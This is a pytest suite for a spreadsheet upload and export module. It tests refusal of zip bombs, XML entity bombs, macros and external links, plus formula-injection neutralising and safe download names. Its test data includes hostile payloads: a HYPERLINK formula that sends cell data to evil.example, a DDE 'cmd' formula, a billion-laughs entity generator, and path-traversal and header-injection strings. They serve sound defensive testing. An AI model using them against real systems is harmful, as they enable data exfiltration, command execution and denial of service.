"""Tests for the generic spreadsheet module: hostile uploads, reading rows, sanitising, safe writing."""

import datetime as dt
import hashlib
import io
import os
import pathlib
import re
import tempfile
import time
import unicodedata
import zipfile
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from reviewtracker.spreadsheets import (
    MAX_CELL_CHARS,
    SpreadsheetError,
    atomic_write,
    check_xlsx_upload,
    has_visible_text,
    new_xlsxwriter_workbook,
    normalize_text,
    read_sheet_rows,
    safe_download_name,
    sanitize_cell,
    write_row,
    xlsx_text,
)
from reviewtracker.spreadsheets.cells import _already_safe, _sanitize

HEADERS = ["Section", "Paragraph", "Type", "Comment"]
MB = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
# Hypothesis keeps no example database here: tests must not write files into the repository.
FAST = settings(database=None, deadline=None, max_examples=60)
HOSTILE_CHARS = st.sampled_from(
    list(
        "=+-@' \t\r\n\x00\x0b\x0c\x1f\x7f\x85\x9f\ud800\udfff\ufffe\uffff\u200e\u202e\u2066\u0301\u00a0é😀👨\u200d🇫🇷ا٣"
    )
)
TEXT = st.text(alphabet=st.one_of(st.characters(), HOSTILE_CHARS), max_size=40)


def make_xlsx(rows, edit=None, title="Feedback"):
    """Build a real workbook in memory with openpyxl."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    if edit:
        edit(sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def patch_xlsx(data, replace=None, add=None, drop=()):
    """Rewrite a workbook's zip parts: replace or add some, drop others."""
    replace, add = replace or {}, add or {}
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name not in drop:
                content = source.read(name)
                target.writestr(name, replace[name](content) if name in replace else content)
        for name, content in add.items():
            target.writestr(name, content)
    return output.getvalue()


def check(data, **limits):
    return check_xlsx_upload(
        io.BytesIO(data),
        filename=limits.pop("filename", "feedback.xlsx"),
        max_bytes=limits.pop("max_bytes", 5 * MB),
        **limits,
    )


def refusal(data, **limits):
    with pytest.raises(SpreadsheetError) as caught:
        check(data, **limits)
    return caught.value.message


def read(data, **options):
    options.setdefault("expected_headers", HEADERS)
    options.setdefault("max_rows", 100)
    return read_sheet_rows(data, "Feedback", **options)


def messages(errors):
    return [str(error) for error in errors]


GOOD = make_xlsx([HEADERS, ["G.2.3", "4", "editorial", "Fine"]])


# --- upload safety --------------------------------------------------------------------------------------


def test_a_plain_workbook_is_accepted_unchanged():
    assert check(GOOD) == GOOD
    assert check_xlsx_upload(GOOD, filename="Feedback.XLSX", max_bytes=len(GOOD)) == GOOD


@pytest.mark.parametrize(
    ("filename", "expected"),
    [
        ("feedback.xls", "Old Excel files (.xls)"),
        ("feedback.xlsm", "contains macros"),
        ("feedback.csv", "CSV files are not accepted"),
        ("feedback.xlsx.exe", "Only Excel .xlsx files"),
        (None, "Only Excel .xlsx files"),
    ],
)
def test_wrong_extensions_are_refused_before_reading(filename, expected):
    class Unreadable:
        def read(self, size):
            raise AssertionError("the file must not be read")

    with pytest.raises(SpreadsheetError, match=re.escape(expected)):
        check_xlsx_upload(Unreadable(), filename=filename, max_bytes=MB)


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"Section,Paragraph,Type,Comment\nG.2.3,4,editorial,=1+1\n", "a CSV or text file"),
        (b"\xef\xbb\xbfSection;Comment\r\n", "a CSV or text file"),
        (b"<html><body><table><tr><td>G.2.3</td></tr></table></body></html>", "an HTML page"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "an old .xls file"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "a PDF document"),
    ],
)
def test_other_files_renamed_xlsx_are_named_in_the_message(content, kind):
    message = refusal(content)
    assert message.startswith("The file is not an Excel .xlsx workbook (it looks like ")
    assert kind in message


def test_empty_file_is_refused():
    assert refusal(b"") == "The file is empty."


def test_oversized_file_is_refused_without_reading_it_all():
    class Big:
        asked = None

        def read(self, size):
            Big.asked = size
            return b"x" * size

    with pytest.raises(SpreadsheetError, match=r"larger than the limit of 1\.0 MB"):
        check_xlsx_upload(Big(), filename="big.xlsx", max_bytes=MB)
    assert Big.asked == MB + 1


def test_zip_bomb_is_refused_by_compression_ratio():
    bomb = patch_xlsx(GOOD, add={"xl/media/image1.png": b"\x00" * (20 * MB)})
    assert len(bomb) < MB
    assert "zip bomb" in refusal(bomb)


def test_total_unpacked_size_is_limited():
    data = patch_xlsx(GOOD, add={f"xl/media/image{i}.png": os.urandom(300 * 1024) for i in range(4)})
    assert "too large once unpacked" in refusal(data, max_uncompressed=MB)


def test_too_many_zip_entries_are_refused():
    data = patch_xlsx(GOOD, add={f"customXml/item{i}.xml": b"<a/>" for i in range(60)})
    assert "too many parts" in refusal(data, max_entries=50)


def _entity_bomb(encoding="utf-8"):
    entities = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    document = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE worksheet [{entities}]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    )
    return document.encode(encoding)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_xml_entity_bomb_is_refused_even_when_utf16_hides_it_from_a_byte_search(encoding):
    started = time.perf_counter()
    message = refusal(patch_xlsx(GOOD, replace={SHEET: lambda _: _entity_bomb(encoding)}))
    assert "document type declaration (xl/worksheets/sheet1.xml)" in message
    assert time.perf_counter() - started < 1


def test_macro_project_inside_an_xlsx_is_refused():
    assert "macros" in refusal(patch_xlsx(GOOD, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))


def test_macro_enabled_workbook_renamed_xlsx_is_refused():
    def macro_content_type(content):
        return content.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")

    assert "macros" in refusal(patch_xlsx(GOOD, replace={"[Content_Types].xml": macro_content_type}))


@pytest.mark.parametrize(
    ("part", "expected"),
    [
        ("xl/externalLinks/externalLink1.xml", "links to other files"),
        ("xl/connections.xml", "external data connections"),
    ],
)
def test_external_links_and_connections_are_refused(part, expected):
    assert expected in refusal(patch_xlsx(GOOD, add={part: b"<externalLink/>"}))


@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        ({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"}, "a Word document"),
        ({"hello.txt": b"hi"}, "a ZIP archive"),
    ],
)
def test_zip_files_that_are_not_workbooks_are_refused(parts, expected):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    assert expected in refusal(output.getvalue())


def test_ordinary_workbook_features_are_not_refused(tmp_path):
    workbook = new_xlsxwriter_workbook(tmp_path / "rich.xlsx")
    sheet = workbook.add_worksheet("Feedback")
    write_row(sheet, 0, HEADERS)
    write_row(sheet, 1, ["G.1", "2", "general", "ok"])
    sheet.write_comment("D2", "a reviewer's note")
    sheet.data_validation("C2:C500", {"validate": "list", "source": ["general", "editorial"]})
    sheet.autofilter("A1:D2")
    sheet.freeze_panes(1, 0)
    sheet.insert_textbox("F2", "Instructions")
    workbook.add_worksheet("Lists").write_url("A1", "https://example.org")
    workbook.close()
    data = check((tmp_path / "rich.xlsx").read_bytes())
    rows, errors = read(data)
    assert errors == [] and rows == [
        {"_row": 2, "Section": "G.1", "Paragraph": "2", "Type": "general", "Comment": "ok"}
    ]


def test_truncated_workbook_is_refused_as_damaged():
    assert "may be damaged" in refusal(GOOD[: len(GOOD) // 2])


# --- reading --------------------------------------------------------------------------------------------


def test_rows_come_back_as_text_keyed_by_heading_with_excel_row_numbers():
    def edit(sheet):
        sheet["B3"].number_format = "0.00"  # shows 1.1 as 1.10

    data = make_xlsx(
        [
            HEADERS,
            ["1.10", 12, "editorial", "  مرحبا\r\nبالعالم e\u0301 😀  "],
            ["B.07", 1.1, dt.datetime(2024, 3, 5), "Pas de\u202f problème"],
            [None, None, None, None],
            ["G.2.3", 0.1 + 0.2, dt.datetime(2024, 3, 5, 14, 30), True],
        ],
        edit,
    )
    rows, errors = read(data)
    assert errors == []
    assert [list(row.values()) for row in rows] == [
        [2, "1.10", "12", "editorial", "مرحبا\nبالعالم é 😀"],
        [3, "B.07", "1.10", "2024-03-05", "Pas de\u202f problème"],
        [5, "G.2.3", "0.3", "2024-03-05T14:30:00", "TRUE"],
    ]
    assert list(rows[0]) == ["_row", *HEADERS]


def test_codes_stored_as_numbers_are_reported_not_merged():
    rows, errors = read(make_xlsx([HEADERS, [1.1, "3", "general", "x"]]), text_columns=["Section"])
    assert messages(errors) == [
        "Row 2, Section: Cell A2 holds 1.1 as a number or date, so Excel may have "
        "changed what was typed (1.10 becomes 1.1); format the column as Text and "
        "type the value again."
    ]
    assert rows[0]["Section"] == ""


def test_formula_and_error_cells_are_refused_naming_the_cell():
    rows, errors = read(
        make_xlsx([HEADERS, ["G.1", "1", "general", "ok"], ["G.2", "2", '=HYPERLINK("http://evil","x")', "#N/A"]])
    )
    assert messages(errors) == [
        "Row 3, Type: Cell C3 contains a formula; paste values only.",
        "Row 3, Comment: Cell D3 shows the error #N/A; replace it with a value.",
    ]
    assert errors[0].message_template == "Cell {cell} contains a formula; paste values only."
    assert errors[0].params["cell"] == "C3"
    assert rows[1]["Type"] == ""


def test_missing_extra_renamed_and_duplicate_columns_are_named():
    data = make_xlsx([["Sectoin", "Type", "Notes", "Type"], ["G.1", "general", "x", "y"]])
    _, errors = read(data)
    assert messages(errors) == [
        "Row 1, Section: The heading Sectoin in cell A1 looks like a renamed Section; change it back to Section.",
        "Row 1: Unknown column Notes in cell C1; remove it or use one of: Section, Paragraph, Type, Comment.",
        "Row 1, Type: The column Type appears twice (again in cell D1).",
        "Row 1, Paragraph: The column Paragraph is missing.",
        "Row 1, Comment: The column Comment is missing.",
    ]


def test_headings_match_aliases_case_and_spacing():
    data = make_xlsx([["SECTION", "paragraph ", "Tipo", "Comment"], ["G.1", "2", "general", "ok"]])
    rows, errors = read(data, header_aliases={"Type": ["Tipo", "Type de commentaire"]})
    assert errors == []
    assert rows[0]["Type"] == "general"


def test_headings_on_the_wrong_row_are_reported():
    data = make_xlsx([["Feedback form"], [], HEADERS, ["G.1", "2", "general", "ok"]])
    rows, errors = read(data)
    assert rows == []
    assert messages(errors) == ["Row 3: The column headings must be on row 1; they seem to be on row 3."]
    rows, errors = read(data, header_row=3)
    assert errors == [] and rows[0]["_row"] == 4


def test_a_sheet_without_headings_is_reported():
    _, errors = read(make_xlsx([["a", "b"], ["c", "d"]]))
    assert messages(errors) == ["Row 1: Row 1 must hold the column headings: Section, Paragraph, Type, Comment."]


def test_values_in_a_column_without_heading_are_not_lost_silently():
    data = make_xlsx([HEADERS, ["G.1", "2", "general", "ok", None, "stray"], ["G.2", "", "", "", "", "x"]])
    _, errors = read(data)
    assert messages(errors) == ["Row 2: Cell F2 has a value but its column has no heading."]


def test_more_rows_than_allowed_are_reported():
    data = make_xlsx([HEADERS] + [["G.1", str(i), "general", "ok"] for i in range(5)])
    rows, errors = read(data, max_rows=3)
    assert len(rows) == 3
    assert messages(errors) == ["Row 5: The sheet has more than 3 rows of data; split it into smaller files."]


def test_an_unknown_sheet_name_is_reported():
    rows, errors = read_sheet_rows(GOOD, "Sheet9", expected_headers=HEADERS, max_rows=10)
    assert rows == []
    assert errors[0].message == "The workbook has no sheet named Sheet9; its sheets are: Feedback."


def test_a_million_empty_rows_are_read_quickly():
    def far_away_cell(xml):
        xml = xml.replace(b'<dimension ref="A1:D3" />', b'<dimension ref="A1:XFD1048576" />')
        return xml.replace(b"</sheetData>", b'<row r="1000000"><c r="K1000000" s="0" /></row></sheetData>')

    data = patch_xlsx(
        make_xlsx([HEADERS, ["G.1", "1", "general", "a"], ["G.2", "2", "general", "b"]]), replace={SHEET: far_away_cell}
    )
    assert b"XFD1048576" in zipfile.ZipFile(io.BytesIO(data)).read(SHEET)
    started = time.perf_counter()
    rows, errors = read(check(data))
    assert time.perf_counter() - started < 2
    assert errors == [] and [row["_row"] for row in rows] == [2, 3]


def test_many_formatted_empty_rows_are_read_quickly():
    blank = b'<row r="%d"><c r="A%d" s="0" /><c r="B%d" t="inlineStr"><is><t> </t></is></c></row>'
    empty_rows = b"".join(blank % (n, n, n) for n in range(3, 50_000))
    data = patch_xlsx(
        make_xlsx([HEADERS, ["G.1", "1", "general", "a"]]),
        replace={SHEET: lambda xml: xml.replace(b"</sheetData>", empty_rows + b"</sheetData>")},
    )
    started = time.perf_counter()
    rows, errors = read(check(data))
    assert time.perf_counter() - started < 2
    assert errors == [] and len(rows) == 1


def test_a_workbook_that_breaks_openpyxl_is_reported_not_crashing():
    data = patch_xlsx(GOOD, replace={SHEET: lambda xml: xml[: len(xml) // 2]})
    with pytest.raises(SpreadsheetError, match="may be damaged"):
        read(data)


# --- sanitising -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1",
        "-1+1",
        "@SUM(1)",
        "-",
        "-5",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\x00=1+1",
        "  =1+1",
        "\u3000=1",
        "\r\n@SUM(1)",
    ],
)
def test_formula_payloads_are_neutralised(payload):
    cleaned = sanitize_cell(payload)
    assert cleaned.startswith("'")
    assert payload.strip("\t\r\n\x00 \u3000")[1:] in cleaned


@pytest.mark.parametrize(
    "value",
    [
        None,
        0,
        -5,
        1.5,
        Decimal("-2.50"),
        True,
        dt.date(2024, 1, 2),
        dt.datetime(2024, 1, 2, 3, 4),
        dt.timedelta(hours=2),
    ],
)
def test_numbers_dates_bools_and_none_pass_through(value):
    assert sanitize_cell(value) is value


def test_control_characters_are_removed_and_line_breaks_kept():
    assert sanitize_cell("a\x00b\x0bc\x1fd\x7fe\x85f\ud800g\ufffeh") == "abcdefgh"
    assert sanitize_cell("one\r\ntwo\rthree\nfour\tfive") == "one\ntwo\nthree\nfour five"


def test_arabic_bidi_marks_emoji_and_combining_characters_survive():
    text = "\u200fمرحبا \u2067عالم\u2069 — cafe\u0301 👩\u200d💻 🇳🇪"
    assert sanitize_cell(text) == text


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a" * 40_000, "a" * (MAX_CELL_CHARS - 1)),
        ("x" * 32_765 + "e\u0301" + "y" * 10, "x" * 32_765),  # never an "e" without its accent
        ("x" * 32_763 + "🇫🇷" + "y" * 10, "x" * 32_763),  # never half a flag
        ("x" * 32_760 + "👨\u200d👩\u200d👧" + "y" * 10, "x" * 32_760),  # never half a family emoji
        ("😀" * 20_000, "😀" * 16_383),  # Excel counts UTF-16 units
    ],
)
def test_long_text_is_cut_at_a_character_boundary_with_a_marker(text, kept):
    assert sanitize_cell(text) == kept + "…"


@FAST
@given(st.one_of(TEXT, st.builds(lambda a, b: a * 1200 + b, TEXT, TEXT)))
def test_sanitized_text_is_never_a_formula_nor_illegal_nor_too_long(text):
    cleaned = sanitize_cell(text)
    assert not cleaned.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert not ILLEGAL_CHARACTERS_RE.search(cleaned)
    assert len(cleaned.encode("utf-16-le", "strict")) // 2 <= MAX_CELL_CHARS


@settings(database=None, deadline=None, max_examples=400)
@given(
    st.one_of(TEXT, st.builds(lambda a, b: a * 1200 + b, TEXT, TEXT), st.builds(lambda a, b: a * 450 + b, TEXT, TEXT))
)
def test_the_fast_path_only_skips_text_the_full_guard_leaves_unchanged(text):
    assert sanitize_cell(text) == _sanitize(text)
    if _already_safe(text):
        assert _sanitize(text) == text


@pytest.mark.parametrize("text", ["plain words", "", " x", "-", " =1", "\n@", "a\tb", "a\rb", "\x85x", "é" * 16_384])
def test_the_fast_path_agrees_with_the_full_guard_on_edge_cases(text):
    assert sanitize_cell(text) == _sanitize(text)
    assert _already_safe(text) == (text in ("plain words", "", " x"))


@settings(database=None, deadline=None, max_examples=25, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(TEXT, min_size=1, max_size=8))
def test_sanitized_text_written_by_openpyxl_or_xlsxwriter_reads_back_as_the_same_text(texts):
    cleaned = [sanitize_cell(text) for text in texts]
    workbook = openpyxl.Workbook()
    workbook.active.append(cleaned)
    with tempfile.TemporaryDirectory() as folder:
        by_openpyxl, by_xlsxwriter = os.path.join(folder, "a.xlsx"), os.path.join(folder, "b.xlsx")
        workbook.save(by_openpyxl)
        written = new_xlsxwriter_workbook(by_xlsxwriter)
        write_row(written.add_worksheet(), 0, texts)  # write_row sanitises by itself, with no guard character
        written.close()
        expected = {by_openpyxl: cleaned, by_xlsxwriter: [xlsx_text(text)[0] for text in texts]}
        for path in (by_openpyxl, by_xlsxwriter):
            cells = next(openpyxl.load_workbook(path).active.iter_rows())
            assert all(cell.data_type != "f" for cell in cells)
            assert [cell.value or "" for cell in cells][: len(cleaned)] == expected[path]


@FAST
@given(TEXT)
def test_normalize_text_is_idempotent_and_clean(text):
    once = normalize_text(text)
    assert normalize_text(once) == once
    assert once == once.strip() and unicodedata.is_normalized("NFC", once)
    assert "\r" not in once and not ILLEGAL_CHARACTERS_RE.search(once.replace("\t", ""))


def test_normalize_text_keeps_bidi_marks_and_tabs_and_composes_accents():
    assert normalize_text("  \u200fcafe\x00\u0301\r\n\tok\u202e \x1f") == "\u200fcafé\n\tok\u202e"


# --- writing --------------------------------------------------------------------------------------------


def test_write_row_keeps_types_and_neutralises_text(tmp_path):
    path = tmp_path / "export.xlsx"
    workbook = new_xlsxwriter_workbook(path)
    sheet = workbook.add_worksheet()
    aware = dt.datetime(2024, 5, 1, 12, 0, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    write_row(
        sheet,
        0,
        [
            "=1+1",
            "http://example.org",
            "007",
            42,
            2**60,
            None,
            True,
            dt.date(2024, 5, 1),
            aware,
            float("nan"),
            "a\x00b",
        ],
    )
    workbook.close()
    cells = next(openpyxl.load_workbook(path).active.iter_rows())
    values = [cell.value for cell in cells]
    assert values[:5] == ["=1+1", "http://example.org", "007", 42, str(2**60)]
    assert cells[0].data_type == "s" and cells[0].quotePrefix  # text, not a formula, with no apostrophe
    assert values[5:9] == [None, True, dt.datetime(2024, 5, 1), dt.datetime(2024, 5, 1, 10, 0)]
    assert values[10] == "ab"
    assert not openpyxl.load_workbook(path).active["B1"].hyperlink


def test_write_row_fast_paths_write_what_the_general_path_writes(tmp_path):
    class Code(str):
        pass

    path = tmp_path / "kinds.xlsx"
    workbook = new_xlsxwriter_workbook(path)
    sheet, bold = workbook.add_worksheet(), workbook.add_format({"bold": True})
    utc = dt.datetime(2024, 5, 1, 12, 30, tzinfo=dt.UTC)
    paris = dt.datetime(2024, 5, 1, 14, 30, tzinfo=ZoneInfo("Europe/Paris"))
    values = [Code("=1+1"), 2**53, -(2**53) - 1, utc, dt.datetime(2024, 5, 1, 12, 30), None, False, "- x", 3.5]
    values += [utc.astimezone(ZoneInfo("Etc/UTC")), paris]
    write_row(sheet, 0, values)
    write_row(sheet, 1, [None, "x"], bold)
    write_row(sheet, 2, [None, "x"], bold, skip_blanks=True)
    workbook.close()
    sheet = openpyxl.load_workbook(path).active
    cells = next(sheet.iter_rows(max_row=1))
    assert [cell.value for cell in cells] == [
        "=1+1",
        2**53,
        str(-(2**53) - 1),
        dt.datetime(2024, 5, 1, 12, 30),
        dt.datetime(2024, 5, 1, 12, 30),
        None,
        False,
        "- x",
        3.5,
        dt.datetime(2024, 5, 1, 12, 30),
        dt.datetime(2024, 5, 1, 12, 30),
    ]
    assert sheet["A2"].value is None and sheet["A2"].font.b  # a None cell with a format is a formatted blank
    assert sheet["A3"].value is None and not sheet["A3"].font.b and sheet["B3"].font.b


def test_write_row_applies_one_format_or_one_per_column(tmp_path):
    path = tmp_path / "formats.xlsx"
    workbook = new_xlsxwriter_workbook(path)
    sheet, bold = workbook.add_worksheet(), workbook.add_format({"bold": True})
    write_row(sheet, 0, ["Section", "Comment"], bold)
    write_row(sheet, 1, ["G.1", "ok", "extra"], [None, bold])
    workbook.close()
    sheet = openpyxl.load_workbook(path).active
    assert [sheet[c].font.b for c in ("A1", "B1", "A2", "B2", "C2")] == [True, True, False, True, False]


def test_atomic_write_returns_hash_and_size_and_leaves_no_temp_file(tmp_path):
    target = tmp_path / "export.xlsx"

    def build(path):
        workbook = new_xlsxwriter_workbook(path)
        write_row(workbook.add_worksheet(), 0, ["Section", "=cmd|' /C calc'!A0"])
        workbook.close()

    digest, size = atomic_write(target, build)
    content = target.read_bytes()
    assert (digest, size) == (hashlib.sha256(content).hexdigest(), len(content))
    assert os.listdir(tmp_path) == ["export.xlsx"]
    cell = openpyxl.load_workbook(target).active["B1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=cmd|' /C calc'!A0", "s", True)


@pytest.mark.parametrize("failure", [RuntimeError("bug in a builder"), OSError(28, "No space left")])
def test_a_failed_write_keeps_the_previous_export_byte_identical(tmp_path, failure):
    target = tmp_path / "export.xlsx"
    atomic_write(target, lambda path: pathlib.Path(path).write_bytes(GOOD))

    def half_then_fail(path):
        with open(path, "wb") as handle:
            handle.write(b"PK\x03\x04 half a workbook")
        raise failure

    with pytest.raises(type(failure)):
        atomic_write(target, half_then_fail)
    assert target.read_bytes() == GOOD
    assert os.listdir(tmp_path) == ["export.xlsx"]


# --- names and errors -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ('report"\r\nSet-Cookie: a=1.xlsx', "report_ Set-Cookie_ a=1.xlsx"),
        ("../../etc/passwd", "_.._etc_passwd"),
        ("C:\\exports\\q1.xlsx", "C__exports_q1.xlsx"),
        ("invoice\u202egpj.exe", "invoicegpj.exe"),
        ("تعليقات النيجر.xlsx", "تعليقات النيجر.xlsx"),
        ("CON.xlsx", "_CON.xlsx"),
        ("\x00\r\n. ", "download"),
        ("o'brien;draft,v2.xlsx", "o_brien_draft_v2.xlsx"),
    ],
)
def test_download_names_are_safe_for_headers_and_file_systems(name, expected):
    assert safe_download_name(name) == expected


def test_long_download_names_keep_their_extension():
    name = safe_download_name("é" * 300 + ".xlsx")
    assert len(name) <= 120 and name.endswith("é.xlsx")


def test_spreadsheet_error_has_a_location_and_a_translatable_template():
    error = SpreadsheetError("Cell {cell} contains a formula; paste values only.", row=7, column="Section", cell="F7")
    assert error.location == "Row 7, Section"
    assert str(error) == "Row 7, Section: Cell F7 contains a formula; paste values only."
    assert error.params == {"row": 7, "column": "Section", "cell": "F7"}
    assert SpreadsheetError("The file is empty.").location == ""


# --- risky text in .xlsx: a quote-prefixed string cell, no guard character ---------------------------------

RISKY = ["=1+1", '=HYPERLINK("http://evil.example","x")', "+1", "-1+1", "- dash", "@SUM(1)", "\t=1", "  =1", "\u3000=1"]


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_is_written_as_quote_prefixed_text_without_an_apostrophe(tmp_path, text):
    path = tmp_path / "risky.xlsx"
    workbook = new_xlsxwriter_workbook(path)
    sheet, bold = workbook.add_worksheet(), workbook.add_format({"bold": True, "num_format": "@"})
    write_row(sheet, 0, [text, text, "plain"], [None, bold, bold])
    workbook.close()
    risky, styled, plain = next(openpyxl.load_workbook(path, data_only=False).active.iter_rows())
    for cell in (risky, styled):
        assert cell.data_type == "s" and cell.value == text  # never a formula, and the text unchanged
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    assert styled.font.b and styled.number_format == "@"  # the cell's own format is kept alongside
    assert plain.value == "plain" and not plain.quotePrefix and plain.font.b


@FAST
@given(TEXT)
def test_no_text_written_by_write_row_is_a_formula_or_carries_a_guard(text):
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "t.xlsx")
        workbook = new_xlsxwriter_workbook(path)
        write_row(workbook.add_worksheet(), 0, [text])
        workbook.close()
        cell = openpyxl.load_workbook(path, data_only=False).active["A1"]
    expected = normalize_text(text.replace("\r", "\n"))
    if cell.value is not None:
        assert cell.data_type == "s"
        assert normalize_text(cell.value) == expected  # what the importer reads back is what was written
        if cell.value.lstrip()[:1] in ("=", "+", "-", "@"):
            assert cell.quotePrefix


@pytest.mark.parametrize(
    "text", ["\u200b", "\u2060\ufeff", "\u200e\u202e\u2066\u2069", "\u0301\u0308", " \u3000\u200b\u00a0\t\n", "\u3164"]
)
def test_text_with_nothing_visible_normalises_to_empty(text):
    assert normalize_text(text) == "" and not has_visible_text(text)


@pytest.mark.parametrize("text", ["a", "\u200fمرحبا", "e\u0301", "👍", "\u200b.", "中文", "\U0001fae8"])
def test_text_with_something_visible_is_kept(text):
    assert has_visible_text(text) and normalize_text(text) == unicodedata.normalize("NFC", text)
